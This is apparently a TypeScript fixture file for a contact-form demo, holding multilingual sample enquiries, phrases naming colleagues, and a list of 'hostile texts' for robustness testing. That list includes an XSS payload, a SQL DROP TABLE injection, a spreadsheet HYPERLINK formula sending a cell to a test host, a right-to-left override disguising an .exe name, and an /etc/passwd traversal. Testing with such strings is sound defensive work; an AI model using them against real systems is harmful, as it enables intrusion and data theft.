import type { Script } from './names.ts'

/** What people write into the free field of a form, by the language they are at home in. */
export const messages: Record<Script | 'german', string[]> = {
  latin: [
    'We are 140 people in three countries and still plan holidays in a spreadsheet. Please show us the absence calendar.',
    'Does the payroll export work with two legal entities?',
    'Please ring me after 4 pm, I am on the shop floor before that.',
    'Our works council would like to know what you log about employees.',
    'I saw your stand in Cork. Could you send the price list?\nThank you!',
    'Only interested in the white paper, please do not call.',
    'My contract ends in March, so whoever follows me will decide.',
    'I will be on sick leave until the 14th; a mail is best.',
  ],
  german: [
    'Wir sind 85 Leute an zwei Standorten und suchen eine Zeiterfassung, die auch der Betriebsrat mag.',
    'Bitte rufen Sie mich nicht vor 10 Uhr an, vormittags bin ich in der Frühschicht.',
    'Lässt sich die Lohnbuchhaltung an unsere Steuerkanzlei übergeben? Größe: ca. 300 Beschäftigte.',
    'Mich interessiert nur das Whitepaper, bitte keine Werbung.',
    'Grüße von der Messe in München! Wie besprochen hätte ich gern ein Angebot.',
  ],
  cyrillic: [
    'Добрий день! Чи є у вас інтерфейс українською мовою?',
    'Пожалуйста, пришлите презентацию. Позвонить можно после 15:00.',
  ],
  arabic: [
    'مرحبًا، نحن شركة من 60 موظفًا ونبحث عن نظام لإدارة الإجازات. هل تدعمون العربية؟',
    'يرجى الاتصال بي بعد الساعة 16:00 على الرقم المذكور. شكرًا!',
  ],
  hebrew: ['שלום, האם המערכת תומכת בעברית ובלוח השנה העברי?', 'אשמח להדגמה ביום ראשון בשעה 10:30, תודה.'],
  devanagari: [
    'नमस्ते, क्या आपका सॉफ़्टवेयर हिन्दी में उपलब्ध है? हमारे यहाँ 120 कर्मचारी हैं।',
    'कृपया डेमो का समय सोमवार को ११ बजे रखें। धन्यवाद।',
  ],
  chinese: ['您好,我们公司有200名员工,想了解考勤和假期管理功能。', '請寄送白皮書,謝謝!週一至週三方便聯絡。'],
}

/** Ways to name somebody else. `{name}`, `{email}`, `{phone}` stand for the other person. */
export const mentionings: { by: 'name' | 'email' | 'phone'; en: string; de: string }[] = [
  {
    by: 'name',
    en: 'Please also invite {name}, who runs our payroll.',
    de: 'Bitte laden Sie auch {name} ein, bei uns zuständig für die Lohnabrechnung.',
  },
  {
    by: 'email',
    en: 'I am leaving the company; from May please write to {email} instead.',
    de: 'Ich verlasse das Unternehmen; ab Mai schreiben Sie bitte an {email}.',
  },
  {
    by: 'phone',
    en: 'My colleague can be reached on {phone} when I am away.',
    de: 'Wenn ich nicht da bin, ist meine Vertretung unter {phone} zu erreichen.',
  },
  {
    by: 'name',
    en: '{name} has been on sick leave since June, so I am taking over.',
    de: '{name} ist seit Juni krank, deshalb übernehme ich.',
  },
]

/** Texts that break careless programs, each once in the demo, all written by one person. */
export const hostileTexts: { what: string; text: string }[] = [
  {
    what: 'quotation marks and a comma',
    text: 'He said "yes, of course" and \'no\' in one breath; see `notes`, please.',
  },
  { what: 'several lines', text: 'First line\r\nSecond line\n\n\tindented third line after an empty one' },
  {
    what: 'right-to-left within left-to-right',
    text: 'Our product is called "שמש (v2.1)" in Haifa and ‎"شمس"‎ in Amman.',
  },
  { what: 'a bidirectional override', text: 'Please open invoice\u202Efdp.exe\u202C today' },
  { what: 'emoji with joiners and flags', text: 'Great demo 👩🏽‍💻👨‍👩‍👧‍👦🏳️‍🌈 thanks from 🇮🇪 and 🇩🇪!' },
  { what: 'a formula', text: '=HYPERLINK("https://example.test/?"&A1,"click here")' },
  { what: 'a leading plus, minus and at sign', text: '+1 from me\n-2 from the team\n@everyone' },
  { what: 'HTML', text: '<script>alert("demo")</script><b>bold</b> &amp; <img src=x onerror=alert(1)>' },
  { what: 'SQL', text: "Robert'); DROP TABLE site.contact; -- % _ \\ $1" },
  { what: 'backslashes', text: 'C:\\new\\table\\x41 and \\" and \\\\server\\share\\' },
  {
    what: 'letters with separate accents',
    text: 'Cafe\u0301 in Mu\u0308nchen, A\u030Angstro\u0308m, Vie\u0323\u0302t',
  },
  {
    what: 'invisible characters',
    text: 'zero\u200Bwidth, soft\u00ADhyphen, no-break\u00A0space, \uFEFFmark, \u2028separator',
  },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text must look like a template and be none
  { what: 'a template', text: '${process.env.HOME} {{constructor}} {name} %s %00 ../../etc/passwd' },
  {
    what: 'a long word',
    text: 'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft'.repeat(5),
  },
  { what: 'only spaces', text: '   ' },
  { what: 'an empty text', text: '' },
]
